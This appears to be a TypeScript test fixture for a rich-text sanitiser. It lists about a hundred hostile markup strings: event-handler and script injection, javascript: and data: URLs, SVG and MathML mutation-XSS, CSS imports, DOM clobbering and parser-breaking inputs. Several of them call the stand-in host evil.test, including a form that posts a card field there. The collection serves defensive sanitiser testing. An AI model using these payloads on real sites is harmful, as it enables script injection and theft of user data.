import { WHOLE } from './whole.js';

// Texts that try to run code (each sets `window.__ran`), to request a foreign host (evil.test) or to break a parser. Most are balanced
// markup, so that they reach the sanitiser. Kinds as in the XSS lists of OWASP, PortSwigger, html5sec and DOMPurify's own tests.

const RUN = 'window.__ran=1';
const NUL = '\u0000';

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x OnErRoR='${RUN}'>`,
  `<b onmouseover="${RUN}" onclick="${RUN}" onpointerenter="${RUN}">over</b>`,
  `<b onfocus="${RUN}" tabindex="0" autofocus>focus</b>`,
  `<b onanimationstart="${RUN}" style="animation: x 1s">moves</b>`,
  `<div onbeforetoggle="${RUN}" popover id="pop">popover</div><button popovertarget="pop">open</button>`,
  `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  `<video><source src=x onerror="${RUN}"></video>`,
  `<video poster="https://evil.test/p.png" autoplay onloadstart="${RUN}"></video>`,
  `<body onload="${RUN}"></body>`,
  `<object data="data:text/html,<script>parent.__ran=1</script>" onerror="${RUN}"></object>`,
  `<b ${NUL}onclick="${RUN}" on${NUL}click="${RUN}">null</b>`,
  `<b a="1"onclick="${RUN}">no space</b>`,
  `<b onclick\n=\n"${RUN}">newlines</b>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  '<b href="javascript:alert(1)">b</b><td href="https://a.example/">c</td>',
  '<script src="https://evil.test/x.js"></script>',
  `<scr<script>ipt>${RUN}</script></scr>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<div><template shadowrootmode="open" shadowrootclonable><script>${RUN}</script></template></div>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${RUN}></style></noscript>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<iframe src="javascript:parent.${RUN.slice(7)}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  '<frameset><frame src="https://evil.test/"></frame></frameset>',
  `<plaintext><img src=x onerror="${RUN}"></plaintext>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
];

const LINKS = [
  `<a href="JaVaScRiPt:${RUN}">a</a>`,
  `<a href="\u0001javascript:${RUN}">a</a>`,
  `<a href="java\tscript:${RUN}">a</a>`,
  `<a href="java&#x0A;script&colon;${RUN}">a</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">a</a>`,
  `<a href="javascript&Tab;:${RUN}">a</a>`,
  `<a href="javascript://evil.test/%0a${RUN}">a</a>`,
  `<a href="\u00a0javascript:${RUN}">a</a>`,
  `<a href="vbscript:${RUN}">a</a>`,
  '<a href="data:text/html,<script>opener.__ran=1</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==" target="_blank">a</a>',
  '<a href="blob:https://evil.test/1">a</a>',
  '<a href="intent://evil.test#Intent;scheme=https;end">a</a>',
  '<a href="https://evil.test/" target="_blank" rel="opener">a</a>',
  '<a href="https://evil.test/" target="_BLANK">a</a>',
  '<a href="https://evil.test/" target="_top" ping="https://evil.test/ping" download>a</a>',
  '<a href="http://[broken">a</a>',
  `<a xlink:href="javascript:${RUN}">a</a>`,
  `<area href="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>send</button></form>`,
  '<form action="https://evil.test/" id="f"><input name="card"></form>',
  `<base href="https://evil.test/"><a href="x">a</a>`,
  `<meta http-equiv="refresh" content="0; url=javascript:${RUN}">`,
  '<link rel="stylesheet" href="https://evil.test/x.css">',
];

const FOREIGN = [
  `<svg onload="${RUN}"></svg>`,
  `<svg><script href="data:,${RUN}"></script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${RUN}"></animate><text>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>parent.__ran=1</script></svg>#x"></use></svg>`,
  '<svg><image href="https://evil.test/x.png"></image></svg>',
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><style><a title="</style><img src=x onerror=${RUN}>"></a></style></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>"></g></style></p></svg>`,
  `<svg><desc><table><title><style><a title="</style><img src=x onerror=${RUN}>"></a></style></title></table></desc></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
  `<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:${RUN}">a</maction></math>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<math><!--</math><img src=x onerror=${RUN}>--></math>`,
];

const STYLES = [
  '<style>@import "https://evil.test/x.css";</style>',
  '<b style="position:fixed;inset:0;z-index:99999">over all</b>',
  `<b style="width:expression(${RUN});behavior:url(x);-moz-binding:url(x)">x</b>`,
  '<table background="https://evil.test/x"><tbody><tr><td background="//evil.test/y">x</td></tr></tbody></table>',
  '<img src="https://evil.test/x.png">',
  '<picture><source srcset="https://evil.test/x.png"><img src="https://evil.test/y.png" loading="eager"></picture>',
  '<img src="\\\\evil.test\\x.png">',
];

const CLOBBERING = [
  '<a id="body" name="body">x</a>',
  '<form id="cookie" name="cookie"><input name="attributes"><input name="childNodes"></form>',
  '<a id="trustedTypes" href="https://evil.test">x</a><a id="trustedTypes" name="createPolicy" href="x">x</a>',
  '<form name="parentNode"><input id="nodeName" name="removeChild"></form>',
  '<b part="base" slot="x" class="y" data-state="loaded" aria-hidden="true" role="button">x</b>',
  `<b is="x-y">x</b><sb-image image-id="x" images="https://evil.test"></sb-image>`,
  '<b contenteditable="true" draggable="true" accesskey="x" inert hidden>x</b>',
  '<dialog open><b>x</b></dialog>',
];

const BROKEN = [
  '<',
  '<b',
  '<b></i>',
  '<b><i></b></i>',
  '<b title="',
  `<b title="'><img src=x onerror=${RUN}>`,
  `<img src='https://evil.test/?`,
  `<img src="https://evil.test/?\n<b>secret</b>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> --><b>x</b>`,
  `<?xml version="1.0"?><b>x</b>`,
  `<!doctype html><b onclick="${RUN}">x</b>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<b>${NUL}<${NUL}script>${RUN}</${NUL}script></b>`,
  `\ufeff<b>\u202e${RUN}\u2028</b>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  '{{constructor.constructor("window.__ran=1")()}}',
  `\${window.__ran=1}`,
  '<b>\ud800</b>\udfff',
  `${'<b>'.repeat(2000)}deep${'</b>'.repeat(2000)}`,
  `<b ${'x="1" '.repeat(2000)}>many</b>`,
  '<'.repeat(20_000),
  '<b '.repeat(20_000),
  '\n'.repeat(20_000),
  `<b>1</b>${'\r'.repeat(20_000)}`,
];

const KINDS = [HANDLERS, SCRIPTS, LINKS, FOREIGN, STYLES, CLOBBERING, BROKEN];

export const HOSTILE_MARKUP: readonly string[] = KINDS.flat();

/** Two of each kind. */
const SOME = KINDS.flatMap((kind) => [kind[0], kind[Math.floor(kind.length / 2)]] as string[]);

/** All texts in the whole run, else a sample; `test/platform/rich-text` tests all of them. */
export const HOSTILE: readonly string[] = WHOLE ? HOSTILE_MARKUP : SOME;
